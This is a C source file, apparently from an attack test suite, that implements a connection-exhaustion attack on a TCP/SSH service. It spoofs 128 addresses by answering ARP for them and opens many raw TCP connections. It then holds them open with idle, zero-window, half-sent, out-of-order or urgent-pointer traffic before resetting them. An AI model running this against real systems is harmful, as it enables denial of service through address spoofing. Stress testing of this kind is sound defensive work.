/*
 * Many clients with a TCP of their own, at addresses that the kernel does not have: no
 * login, only what each kind does to be a burden.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/raw.h"

#define HOSTS 128u      /* addresses .64 to .191 of the victim's /24 */
#define FIRST 64u
#define ETH_ARP 0x0806u
#define SYN_MS 1000u    /* a SYN without an answer is sent again */
#define OPENING 256u    /* at once */
#define LINE "SSH-2.0-crowd\r\n"
#define LINE_LEN 15u
#define PACKET 34000u   /* of a first packet of 34996 bytes that never ends */
#define CHUNK 1400u
#define HOLES 40u       /* single bytes, each behind a gap */
#define PORT 3000u

enum state { CLOSED, OPENING_UP, OPEN, LEAVING, GONE };

struct client {
	enum state state;
	uint32_t next, una;   /* of ours */
	uint32_t heard;       /* of the victim's: next expected */
	uint64_t at;          /* of the last SYN */
	uint32_t got;         /* payload bytes seen */
};

struct crowd {
	struct raw *r;
	struct client *c;
	uint32_t count, opened, tried, open, reset, answered, opening;
	const struct kind *kind;
};

struct kind {
	const char *name;
	/* What it sends once it is connected. */
	void (*burden)(struct crowd *w, uint32_t i);
	uint16_t window;      /* after the handshake */
	bool acks;            /* it acknowledges what comes */
};

static uint32_t
host_of(const struct crowd *w, uint32_t i)
{
	return (w->r->victim & ~0xffu) | (FIRST + i % HOSTS);
}

static struct raw_seg
segment(const struct crowd *w, uint32_t i, uint8_t flags)
{
	const struct client *c = &w->c[i];

	return (struct raw_seg){ .from = host_of(w, i), .to = w->r->victim,
		.from_port = (uint16_t)(PORT + i / HOSTS), .to_port = w->r->port, .seq = c->next,
		.ack = c->heard, .flags = flags, .window = w->kind->window };
}

static void
send_bytes(struct crowd *w, uint32_t i, const void *data, uint32_t len)
{
	struct raw_seg s = segment(w, i, RAW_ACK | RAW_PSH);

	s.data = data;
	s.data_len = len;
	raw_tcp(w->r, &s);
	w->c[i].next += len;
}

static void
burden_line(struct crowd *w, uint32_t i)
{
	send_bytes(w, i, LINE, LINE_LEN);
}

static void
burden_half(struct crowd *w, uint32_t i)
{
	static uint8_t bytes[CHUNK] = { 0, 0, 0x88, 0xb4, 10 };

	send_bytes(w, i, LINE, LINE_LEN);
	for (uint32_t left = PACKET; left > 0;) {
		uint32_t n = left < CHUNK ? left : CHUNK;

		send_bytes(w, i, bytes, n);
		left -= n;
		memset(bytes, 0, 5);
	}
	memcpy(bytes, (uint8_t[5]){ 0, 0, 0x88, 0xb4, 10 }, 5);
}

static void
burden_order(struct crowd *w, uint32_t i)
{
	send_bytes(w, i, LINE, LINE_LEN);
	for (uint32_t k = 0; k < HOLES; k++) {
		struct raw_seg s = segment(w, i, RAW_ACK);

		s.seq += 2 + 2 * k;
		s.data = (const uint8_t *)"x";
		s.data_len = 1;
		raw_tcp(w->r, &s);
	}
}

/* Every pointer there is, one for each client: before, in and behind the segment. */
static void
burden_urgent(struct crowd *w, uint32_t i)
{
	struct raw_seg s = segment(w, i, RAW_ACK | RAW_PSH | RAW_URG);

	s.urgent = (uint16_t)(i < 32 ? i : i * 65535ull / w->count);
	s.data = (const uint8_t *)LINE;
	s.data_len = LINE_LEN;
	raw_tcp(w->r, &s);
	w->c[i].next += LINE_LEN;
}

static const struct kind kinds[] = {
	{ "idle", burden_line, 8192, true },
	{ "zero", burden_line, 0, true },
	{ "half", burden_half, 8192, true },
	{ "order", burden_order, 8192, true },
	{ "urgent", burden_urgent, 8192, true },
};

static void
open_one(struct crowd *w, uint32_t i)
{
	struct client *c = &w->c[i];
	struct raw_seg s;

	if (c->state == CLOSED) {
		c->next = (uint32_t)raw_random(w->r);
		w->opening++;
	}
	s = segment(w, i, RAW_SYN);
	s.ack = 0;
	s.window = 8192;
	raw_tcp(w->r, &s);
	c->state = OPENING_UP;
	c->at = raw_now_ms();
}

static void
answer_arp(struct raw *r, const uint8_t *buf)
{
	uint32_t to = raw_get32(buf + 38);
	uint8_t *f;

	if (raw_get16(buf + 20) != 1 || (to & ~0xffu) != (r->victim & ~0xffu) || (to & 0xff) < FIRST ||
	    (to & 0xff) >= FIRST + HOSTS)
		return;
	f = raw_next(r);
	memcpy(f, buf + 6, 6);
	memcpy(f + 6, r->mac, 6);
	memcpy(f + 12, buf + 12, 8);
	raw_put16(f + 20, 2);
	memcpy(f + 22, r->mac, 6);
	raw_put32(f + 28, to);
	memcpy(f + 32, buf + 22, 10);
	raw_push(r, 42);
}

static void
connected(struct crowd *w, uint32_t i, const struct raw_seg *s)
{
	struct client *c = &w->c[i];
	struct raw_seg ack;

	if (c->state == OPENING_UP) {
		c->next++;
		c->una = c->next;
		c->heard = s->seq + 1;
		c->state = OPEN;
		w->opening--;
		w->open++;
		w->opened++;
		w->kind->burden(w, i);
		return;
	}
	ack = segment(w, i, RAW_ACK);
	raw_tcp(w->r, &ack);
}

static void
gone(struct crowd *w, struct client *c)
{
	if (c->state == OPEN)
		w->open--;
	else if (c->state == OPENING_UP)
		w->opening--;
	c->state = GONE;
	w->reset++;
}

static void
heard(struct crowd *w, const struct raw_seg *s)
{
	uint32_t i = (s->to & 0xff) - FIRST + (uint32_t)(s->to_port - PORT) * HOSTS;
	struct client *c = &w->c[i];
	struct raw_seg ack;

	if ((s->to & 0xff) < FIRST || (s->to & 0xff) >= FIRST + HOSTS || s->to_port < PORT || i >= w->count ||
	    s->from != w->r->victim || c->state == CLOSED || c->state == GONE)
		return;
	if (s->flags & RAW_RST) {
		gone(w, c);
		return;
	}
	if (s->flags & RAW_SYN) {
		connected(w, i, s);
		return;
	}
	if (c->state == LEAVING) {
		ack = segment(w, i, RAW_RST);
		ack.seq = s->ack;
		raw_tcp(w->r, &ack);
		return;
	}
	if (c->state != OPEN)
		return;
	if (s->data_len > 0 && c->got == 0)
		w->answered++;
	c->got += s->data_len;
	/* With a shut window nothing is taken: each probe is answered, and no more. */
	if (w->kind->window > 0 && s->seq == c->heard)
		c->heard += s->data_len + ((s->flags & RAW_FIN) ? 1u : 0u);
	if ((s->data_len > 0 || (s->flags & RAW_FIN)) && w->kind->acks) {
		ack = segment(w, i, RAW_ACK);
		raw_tcp(w->r, &ack);
	}
}

static void
listen_for(struct crowd *w, int wait_ms)
{
	uint8_t buf[RAW_FRAME];
	struct raw_seg s;
	bool sent;
	uint32_t n;

	raw_flush(w->r);
	for (uint32_t k = 0; k < 512; k++) {
		n = raw_recv(w->r, buf, sizeof(buf), k == 0 ? wait_ms : 0, &sent);
		if (n == 0)
			break;
		if (sent)
			continue;
		if (n >= 42 && raw_get16(buf + 12) == ETH_ARP)
			answer_arp(w->r, buf);
		else if (raw_read(buf, n, &s))
			heard(w, &s);
	}
	raw_flush(w->r);
}

static void
retry(struct crowd *w)
{
	uint64_t now = raw_now_ms();

	for (uint32_t i = 0; i < w->tried; i++)
		if (w->c[i].state == OPENING_UP && now - w->c[i].at >= SYN_MS)
			open_one(w, i);
}

/* A reset that is not exact, because something was lost, is challenged (RFC 5961
 * section 3.2): the answer to that is. Three times, for those that are lost. */
static void
leave(struct crowd *w)
{
	for (uint32_t n = 0; n < 3 * w->count; n++) {
		uint32_t i = n % w->count;
		struct raw_seg s;

		if (i == 0 && n > 0)
			for (uint64_t end = raw_now_ms() + 600; raw_now_ms() < end;)
				listen_for(w, 20);
		if (w->c[i].state != OPEN && w->c[i].state != LEAVING)
			continue;
		w->c[i].state = LEAVING;
		s = segment(w, i, RAW_RST);
		raw_tcp(w->r, &s);
		if (i % RAW_BATCH == 0)
			listen_for(w, 1);
	}
	raw_flush(w->r);
}

int
attack_crowd(struct raw *r, char **arg)
{
	struct crowd w = { .r = r, .count = (uint32_t)strtoul(arg[1], NULL, 10) };
	uint64_t end = raw_now_ms() + 1000 * strtoull(arg[2], NULL, 10);
	uint64_t again = 0;

	for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++)
		if (strcmp(kinds[k].name, arg[0]) == 0)
			w.kind = &kinds[k];
	w.c = calloc(w.count, sizeof(*w.c));
	if (w.kind == NULL || w.c == NULL)
		return 2;
	while (raw_now_ms() < end) {
		while (w.opening < OPENING && w.tried < w.count)
			open_one(&w, w.tried++);
		listen_for(&w, 20);
		if (raw_now_ms() - again >= 200) {
			again = raw_now_ms();
			retry(&w);
		}
	}
	printf("opened %u answered %u reset %u open %u\n", w.opened, w.answered, w.reset, w.open);
	fflush(stdout);
	leave(&w);
	free(w.c);
	return w.opened == 0;
}
